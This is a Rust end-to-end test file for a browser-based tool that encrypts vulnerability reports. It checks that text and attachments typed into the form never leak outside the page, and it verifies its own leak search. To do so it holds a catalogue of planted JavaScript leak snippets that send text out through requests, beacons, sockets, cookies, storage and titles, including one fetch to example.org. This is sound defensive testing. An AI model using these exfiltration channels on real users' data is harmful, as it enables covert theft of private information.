//! Nothing that is typed leaves: a canary in every field, everything recorded from outside the
//! page, and every encoding searched. And the proof that the search would find it.

use std::path::PathBuf;

use anyhow::{Context, Result, ensure};
use sealed_report_e2e::attached;
use sealed_report_e2e::cdp::Cdp;
use sealed_report_e2e::chromium::Chromium;
use sealed_report_e2e::evidence::Evidence;
use sealed_report_e2e::files::{self, Made};
use sealed_report_e2e::form::Form;
use sealed_report_e2e::gpg::{Algorithm, Gnupg};
use sealed_report_e2e::report::{Answers, canary};
use sealed_report_e2e::search::{Canary, Search};
use sealed_report_e2e::stand::{Home, Stand};
use sealed_report_e2e::vendor::{self, ACME};
use sealed_report_e2e::wait;
use tempfile::TempDir;
use xtask::inbox::{Behaviour, Inbox};

#[test]
fn hosted_nothing_typed_leaves() -> Result<()> {
    nothing_typed_leaves(Home::Hosted)
}

#[test]
fn in_a_frame_nothing_typed_leaves() -> Result<()> {
    nothing_typed_leaves(Home::Frame)
}

#[test]
fn from_a_file_nothing_typed_leaves() -> Result<()> {
    nothing_typed_leaves(Home::File)
}

#[test]
fn hosted_nothing_of_an_attachment_leaves() -> Result<()> {
    nothing_of_an_attachment_leaves(Home::Hosted)
}

#[test]
fn in_a_frame_nothing_of_an_attachment_leaves() -> Result<()> {
    nothing_of_an_attachment_leaves(Home::Frame)
}

#[test]
fn from_a_file_nothing_of_an_attachment_leaves() -> Result<()> {
    nothing_of_an_attachment_leaves(Home::File)
}

/// More than what stays in memory, and little enough for a raw mail.
const STORED_BYTES: usize = 9_000_000;

struct Watched {
    _gnupg: Gnupg,
    inbox: Inbox,
    _inbox_dir: TempDir,
    stand: Stand,
    browser: Chromium,
}

impl Watched {
    /// A vendor with a certificate and every channel, and one without any.
    fn new() -> Result<Self> {
        let gnupg = Gnupg::new()?;
        let certificate = gnupg.generate("Acme <psirt@acme.example>", Algorithm::Curve25519)?;
        let inbox_dir = tempfile::tempdir()?;
        let inbox = Inbox::start(inbox_dir.path(), 0, Behaviour::Accept)?;
        let acme = vendor::acme(&certificate, Some(&inbox.url()))?;
        let stand = Stand::new(vec![acme, vendor::shipped_one("kami")?])?;
        let browser = Chromium::start()?;
        Ok(Self {
            _gnupg: gnupg,
            inbox,
            _inbox_dir: inbox_dir,
            stand,
            browser,
        })
    }

    /// Everything that was seen outside the page; the browser ends with it.
    fn evidence(self) -> Result<Evidence> {
        let mut evidence = Evidence::default();
        evidence.add_storage(&self.browser)?;
        evidence.add_events(&self.browser.cdp);
        evidence.add_downloads(&self.browser)?;
        evidence.add_requests("site", &self.stand.site().log());
        evidence.add_requests("parent", &self.stand.parent().log());
        evidence.add_requests("inbox", &self.inbox.log());
        evidence.add_files("profile", self.browser.leave()?);
        Ok(evidence)
    }
}

fn nothing_typed_leaves(home: Home) -> Result<()> {
    let watched = Watched::new()?;
    let session = &watched.browser.session;
    watched.stand.open(session, home)?;
    let (answers, mut canaries) = Answers::canaries();
    a_vendor_without_a_key(&watched, &mut canaries)?;

    let form = Form::new(session, ACME);
    form.go("reporter")?;
    let wrong = canary("no-address");
    session.type_into("#email", &wrong.text)?;
    canaries.push(wrong);
    session.click("#continue")?;
    form.error()?;
    session.put("#email", "")?;
    form.go("start")?;
    form.fill(&answers)?;
    form.go("by-hand")?;
    session.find("#unencrypted-warning")?;
    session.click("#copy-title")?;
    form.go("review")?;
    form.review()?;
    form.seal()?;
    every_channel(&watched, home)?;
    form.go("by-hand")?;
    session.click("#copy-markdown")?;
    session.find("#copied:not(:empty)")?;

    let cdp = &watched.browser.cdp;
    silent(cdp)?;
    let worker = cdp.target("worker", "blob:")?;
    ensure!(!worker.session.is_empty(), "the worker was not watched");
    let evidence = watched.evidence()?;
    for place in [
        "storage of page",
        "storage of worker",
        "cookies",
        "download",
        "profile",
    ] {
        ensure!(evidence.has(place), "nothing was recorded of {place}");
    }
    let leaks = Search::new(&canaries)?.look(&evidence);
    ensure!(
        leaks.is_empty(),
        "typed text was found outside the page: {leaks:#?}"
    );
    Ok(())
}

/// Kami: the mail that asks for a key, and the boxes for a certificate and its fingerprint.
fn a_vendor_without_a_key(watched: &Watched, canaries: &mut Vec<Canary>) -> Result<()> {
    let session = &watched.browser.session;
    let form = Form::new(session, "kami");
    form.choose()?;
    form.go("key")?;
    for id in ["fingerprint", "pasted"] {
        let canary = canary(id);
        session.type_into(&format!("#{id}"), &canary.text)?;
        canaries.push(canary);
    }
    session.click("#check-certificate")?;
    form.error()?;
    session.click("#key-request-mail")?;
    Form::new(session, ACME).go("start")
}

fn every_channel(watched: &Watched, home: Home) -> Result<()> {
    let session = &watched.browser.session;
    let browser = &watched.browser;
    browser.download(|| session.click("#save-sealed"))?;
    session.click("#copy-armored")?;
    session.find("#copied:not(:empty)")?;
    browser.download(|| session.click("#save-draft"))?;
    browser.download(|| session.click("#mailto-save"))?;
    session.click("#mail summary")?;
    browser.download(|| session.click("#save-raw"))?;
    session.click("#mailto")?;
    if home != Home::File {
        session.click("#upload")?;
        session.find("#uploaded")?;
    }
    let mut number = 1;
    while session.has(&format!("#save-receipt-{number}"))? {
        browser.download(|| session.click(&format!("#save-receipt-{number}")))?;
        number += 1;
    }
    ensure!(number > 4, "only {} receipts", number - 1);
    Ok(())
}

/// Canaries in names and contents: of files that are sealed, removed, and cannot be read.
fn nothing_of_an_attachment_leaves(home: Home) -> Result<()> {
    let watched = Watched::new()?;
    let session = &watched.browser.session;
    watched.stand.open(session, home)?;
    let form = Form::new(session, ACME);
    form.choose()?;
    form.fill(&Answers::smallest())?;
    form.go("additional")?;

    let mut canaries = Vec::new();
    // Before a slash there is only a path, which is no part of the name.
    let mut plant = |name: &str| {
        let mut canary = canary(name);
        canary.text = canary.text.replace('/', "-");
        canaries.push(canary.clone());
        canary.text
    };
    let disk = tempfile::tempdir()?;
    let mut on_disk = |which: &str| -> Result<PathBuf> {
        let name = plant(&format!("name of the {which} file"));
        let path = disk.path().join(format!("{name}.txt"));
        std::fs::write(&path, plant(&format!("content of the {which} file")))?;
        Ok(path)
    };
    let (chosen, vanished) = (on_disk("chosen")?, on_disk("vanished")?);
    if home == Home::Hosted {
        // Long enough to be stored once it is encrypted.
        let content = std::fs::read(&chosen)?;
        let mut long = content.clone();
        long.resize(STORED_BYTES, b'.');
        long.extend(content);
        std::fs::write(&chosen, long)?;
    }
    let mut made = |which: &str| {
        let name = plant(&format!("name of the {which} file"));
        Made::new(name, plant(&format!("content of the {which} file")))
    };
    let (dropped, removed, pasted) = (made("dropped"), made("removed"), made("pasted"));
    files::choose(session, &[&chosen, &vanished])?;
    files::drop(session, &[dropped, removed])?;
    files::paste(session, &[pasted], "")?;
    attached::read(session, 5, wait::PATIENCE)?;
    session.click("#remove-attachment-4")?;
    attached::read(session, 4, wait::PATIENCE)?;

    form.review()?;
    std::fs::remove_file(&vanished)?;
    session.click("#seal")?;
    let said = form.error()?;
    ensure!(said.contains(".txt"), "the file is not named: {said}");
    form.go("additional")?;
    session.click("#remove-attachment-2")?;
    form.review()?;
    form.seal()?;
    every_channel_of_an_archive(&watched, home)?;

    silent(&watched.browser.cdp)?;
    let evidence = watched.evidence()?;
    for place in [
        "storage of page",
        "storage of worker",
        "download",
        "profile",
    ] {
        ensure!(evidence.has(place), "nothing was recorded of {place}");
    }
    if home == Home::Hosted {
        let stored = evidence.longest("storage of page.files");
        ensure!(
            stored > STORED_BYTES,
            "of the ciphertext in the browser's private file system {stored} bytes were recorded"
        );
        let uploaded = evidence.longest("inbox: body");
        ensure!(uploaded > STORED_BYTES, "{uploaded} bytes were uploaded");
    }
    let leaks = Search::new(&canaries)?.look(&evidence);
    ensure!(
        leaks.is_empty(),
        "of an attachment was found outside the page: {leaks:#?}"
    );
    Ok(())
}

fn every_channel_of_an_archive(watched: &Watched, home: Home) -> Result<()> {
    let session = &watched.browser.session;
    let browser = &watched.browser;
    browser.download(|| session.click("#save-sealed"))?;
    browser.download(|| session.click("#save-draft"))?;
    session.click("#mail summary")?;
    browser.download(|| session.click("#save-raw"))?;
    session.click("#mailto")?;
    if home != Home::File {
        session.click("#upload")?;
        session.find("#uploaded")?;
    }
    browser.download(|| session.click("#save-receipt-1"))?;
    Ok(())
}

/// No line on the console, no exception, nothing that the policy had to refuse.
fn silent(cdp: &Cdp) -> Result<()> {
    const LOUD: [&str; 3] = [
        "Runtime.consoleAPICalled",
        "Runtime.exceptionThrown",
        "Log.entryAdded",
    ];
    for event in cdp.events() {
        let text = event.params.to_string();
        // The browser's own note that it opened a mail program, as it was asked to.
        if event.params["entry"]["level"] == "info"
            && text.contains("external handler for 'mailto:")
        {
            continue;
        }
        ensure!(
            !LOUD.contains(&event.method.as_str()),
            "{}: {text}",
            event.method
        );
        let refused = text.contains("ContentSecurityPolicyIssue");
        ensure!(!refused, "refused by the policy: {text}");
    }
    Ok(())
}

/// How a planted text is written, in a script.
const ENCODINGS: &str = r"
const utf8 = new TextEncoder().encode(TEXT);
const binary = (bytes) => String.fromCharCode(...bytes);
const base64 = (before) => btoa(binary(new TextEncoder().encode(before + TEXT)));
const base64url = () => base64('x').replaceAll('+', '-').replaceAll('/', '_');
const percent = () => encodeURIComponent(TEXT);
const hex = () => [...utf8].map((byte) => byte.toString(16).padStart(2, '0')).join('');
const HEX = () => hex().toUpperCase();
const utf16 = (little) => {
  const view = new DataView(new ArrayBuffer(TEXT.length * 2));
  for (let at = 0; at < TEXT.length; at++) view.setUint16(at * 2, TEXT.charCodeAt(at), little);
  return new Uint8Array(view.buffer);
};
";

/// A leak to plant: its name, where it is found, how it is written, and a script that plants it.
struct Plant {
    name: &'static str,
    place: &'static str,
    encoding: &'static str,
    script: &'static str,
}

const fn plant(
    name: &'static str,
    place: &'static str,
    encoding: &'static str,
    script: &'static str,
) -> Plant {
    Plant {
        name,
        place,
        encoding,
        script,
    }
}

/// Where a page on a static host could leak.
const HOSTED: [Plant; 24] = [
    plant(
        "query",
        "site: address",
        "percent-encoded",
        "await fetch('?q=' + percent())",
    ),
    plant(
        "query seen by the browser",
        "Network.requestWillBeSent in page",
        "base64url",
        "await fetch('?q=' + base64url())",
    ),
    plant("path", "site: address", "hex", "await fetch('./' + HEX())"),
    plant(
        "body",
        "site: body",
        "base64",
        "await fetch('', { method: 'POST', body: base64('12') })",
    ),
    plant(
        "binary body",
        "site: body",
        "UTF-16LE",
        "await fetch('', { method: 'POST', body: utf16(true) })",
    ),
    plant(
        "beacon",
        "site: body",
        "UTF-16BE",
        "navigator.sendBeacon('', new Blob([utf16(false)]))",
    ),
    plant(
        "header",
        "site: header",
        "hex",
        "await fetch('', { headers: { 'X-A': hex() } })",
    ),
    plant(
        "blocked request",
        "Audits.issueAdded in page",
        "percent-encoded",
        "new Image().src = '/a.png?' + percent()",
    ),
    plant(
        "socket",
        "Network.webSocketCreated in page",
        "base64url",
        "new WebSocket('ws://' + location.host + '/?' + base64url())",
    ),
    plant(
        "mail address",
        "storage of page",
        "percent-encoded",
        "const a = document.createElement('a'); document.body.append(a); \
         a.href = 'mailto:a@example.org?subject=' + percent()",
    ),
    plant(
        "opened mail",
        "Page.frameRequestedNavigation in page",
        "percent-encoded",
        "location.href = 'mailto:a@example.org?body=' + percent()",
    ),
    plant(
        "window",
        "Page.windowOpen",
        "percent-encoded",
        "open('about:blank#' + percent())",
    ),
    plant(
        "local storage",
        "storage of page",
        "raw",
        "localStorage.setItem('a', TEXT)",
    ),
    plant(
        "session storage",
        "storage of page",
        "base64",
        "sessionStorage.setItem(base64('1'), 1)",
    ),
    plant(
        "database",
        "storage of page",
        "UTF-16LE",
        "await new Promise((done) => { const asked = indexedDB.open('a'); \
         asked.onupgradeneeded = () => asked.result.createObjectStore('s'); \
         asked.onsuccess = () => { const kept = asked.result.transaction('s', 'readwrite'); \
         kept.objectStore('s').put({ deep: [utf16(true)] }, 'k'); \
         kept.oncomplete = () => { asked.result.close(); done() } } })",
    ),
    plant(
        "cache",
        "storage of page",
        "raw",
        "await (await caches.open('a')).put('/a', new Response(TEXT))",
    ),
    plant(
        "private files",
        "storage of page",
        "hex",
        "const file = await (await navigator.storage.getDirectory())\
         .getFileHandle(hex(), { create: true })",
    ),
    plant("cookie", "cookies", "hex", "document.cookie = 'a=' + HEX()"),
    plant(
        "console",
        "Runtime.consoleAPICalled in page",
        "raw",
        "console.debug({ deep: TEXT })",
    ),
    plant(
        "exception",
        "Runtime.exceptionThrown in page",
        "base64",
        "setTimeout(() => { throw new Error(base64('')) })",
    ),
    plant(
        "title",
        "Target.targetInfoChanged",
        "raw",
        "document.title = TEXT",
    ),
    plant(
        "hash",
        "Page.navigatedWithinDocument in page",
        "percent-encoded",
        "location.hash = TEXT",
    ),
    plant(
        "history",
        "storage of page",
        "raw",
        "history.replaceState({ TEXT }, '')",
    ),
    plant(
        "file name",
        "Browser.downloadWillBegin",
        "hex",
        "const a = document.createElement('a'); a.href = 'data:,x'; a.download = hex(); a.click()",
    ),
];

/// Where a page in a frame could leak, besides.
const FRAME: [Plant; 6] = [
    plant(
        "upload address",
        "inbox: address",
        "percent-encoded",
        "await fetch(INBOX + percent(), { method: 'PUT' }).catch(() => 0)",
    ),
    plant(
        "upload body",
        "inbox: body",
        "base64",
        "await fetch(INBOX + 'a', { method: 'PUT', body: base64('1') })",
    ),
    plant(
        "console",
        "Runtime.consoleAPICalled in iframe",
        "raw",
        "console.log(TEXT)",
    ),
    plant(
        "hash",
        "Page.navigatedWithinDocument in iframe",
        "percent-encoded",
        "location.hash = TEXT; while (!document.getElementById('vendor-acme')) \
         await new Promise((done) => setTimeout(done))",
    ),
    // After the page has gone to where that leads, and has put its own title there.
    plant("title", "storage of iframe", "raw", "document.title = TEXT"),
    plant(
        "mail address",
        "storage of iframe",
        "percent-encoded",
        "const a = document.createElement('a'); document.body.append(a); \
         a.href = 'mailto:a@example.org?subject=' + percent()",
    ),
];

/// Where a page from a file could leak.
const FILE: [Plant; 5] = [
    plant(
        "console",
        "Runtime.consoleAPICalled in page",
        "raw",
        "console.log(TEXT)",
    ),
    plant(
        "title",
        "Target.targetInfoChanged",
        "raw",
        "document.title = TEXT",
    ),
    plant(
        "hash",
        "Page.navigatedWithinDocument in page",
        "percent-encoded",
        "location.hash = TEXT",
    ),
    plant(
        "local storage",
        "storage of page",
        "hex",
        "localStorage.setItem('a', HEX())",
    ),
    plant(
        "blocked request",
        "Audits.issueAdded in page",
        "percent-encoded",
        "await fetch('https://example.org/?' + percent()).catch(() => 0)",
    ),
];

/// Where a worker could leak. What it throws reaches nobody but the page.
const WORKER: [Plant; 1] = [plant(
    "worker's console",
    "Runtime.consoleAPICalled in worker",
    "raw",
    "console.log(TEXT)",
)];

/// Where the worker of a page on a static host could leak, besides.
const HOSTED_WORKER: [Plant; 2] = [
    plant(
        "worker's query",
        "site: address",
        "percent-encoded",
        "await fetch(new URL('/?q=' + percent(), self.origin))",
    ),
    plant(
        "worker's query seen by the browser",
        "Network.requestWillBeSent in worker",
        "base64url",
        "await fetch(new URL('/?q=' + base64url(), self.origin))",
    ),
];

#[test]
fn hosted_planted_leaks_are_found() -> Result<()> {
    planted_leaks_are_found(Home::Hosted, &HOSTED, &HOSTED_WORKER)
}

#[test]
fn in_a_frame_planted_leaks_are_found() -> Result<()> {
    planted_leaks_are_found(Home::Frame, &FRAME, &[])
}

#[test]
fn from_a_file_planted_leaks_are_found() -> Result<()> {
    planted_leaks_are_found(Home::File, &FILE, &[])
}

fn planted_leaks_are_found(home: Home, in_page: &[Plant], in_worker: &[Plant]) -> Result<()> {
    let watched = Watched::new()?;
    let cdp = &watched.browser.cdp;
    watched.stand.open(&watched.browser.session, home)?;
    Form::new(&watched.browser.session, ACME).choose()?;
    let (kind, address) = watched.stand.target(home);
    let page = cdp.target(kind, &address)?.session;
    let worker = cdp.target("worker", "blob:")?.session;
    let inbox = watched.inbox.url();
    let in_worker = in_worker
        .iter()
        .chain(&WORKER)
        .map(|plant| (&worker, plant));
    let all: Vec<_> = in_page
        .iter()
        .map(|plant| (&page, plant))
        .chain(in_worker)
        .collect();
    let mut canaries = Vec::new();
    for (target, plant) in &all {
        let canary = canary(plant.name);
        let script = format!(
            "(async () => {{ const TEXT = {:?}; const INBOX = {inbox:?}; {ENCODINGS} {}; }})()",
            canary.text, plant.script
        );
        cdp.evaluate(target, &script).with_context(|| plant.name)?;
        canaries.push(canary);
    }
    // Some events come a moment after what they tell of.
    for event in all
        .iter()
        .filter_map(|(_, plant)| plant.place.split_once('.')?.1.split(' ').next())
    {
        wait::until_true(&format!("an event {event}"), || {
            Ok(cdp.events().iter().any(|seen| seen.method.ends_with(event)))
        })?;
    }
    let evidence = watched.evidence()?;
    let leaks = Search::new(&canaries)?.look(&evidence);
    for (_, plant) in &all {
        let seen: Vec<_> = leaks
            .iter()
            .filter(|leak| leak.canary == plant.name)
            .collect();
        let found = seen
            .iter()
            .any(|leak| leak.place.starts_with(plant.place) && leak.encoding == plant.encoding);
        ensure!(
            found,
            "{} was not found in {}, but: {seen:#?}",
            plant.name,
            plant.place
        );
    }
    Ok(())
}
